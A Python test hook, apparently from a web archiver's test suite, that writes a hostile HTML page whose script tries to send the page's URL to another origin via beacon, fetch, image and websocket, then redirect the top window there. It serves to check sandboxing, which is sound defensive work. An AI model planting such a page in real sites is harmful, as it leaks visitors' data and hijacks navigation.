"""Test hook: saves a hostile page that tries to reach another origin (a beacon, a fetch, an
image, a websocket) and to send the top window to it. It reports in its own DOM when it has
tried everything."""
import json
import os
from pathlib import Path

target = os.environ["PHONEHOME_URL"].rstrip("/")
page = """<!doctype html>
<html><head><meta charset="utf-8"><title>Phone home</title></head>
<body><p id="state">trying</p>
<script>
const T = "TARGET";
try { navigator.sendBeacon(T + "/beacon", location.href); } catch (e) {}
fetch(T + "/fetch?leak=" + encodeURIComponent(location.href), {mode: "no-cors"}).catch(() => {});
new Image().src = T + "/image";
try { new WebSocket(T.replace("http", "ws") + "/ws"); } catch (e) {}
setTimeout(() => {
  try { top.location.href = T + "/top"; } catch (e) {}
  document.getElementById("state").textContent = "tried";
}, 300);
</script></body></html>
""".replace("TARGET", target)
Path("phone.html").write_text(page)
print(json.dumps({"type": "ArchiveResult", "status": "succeeded", "output_str": "phone.html"}))
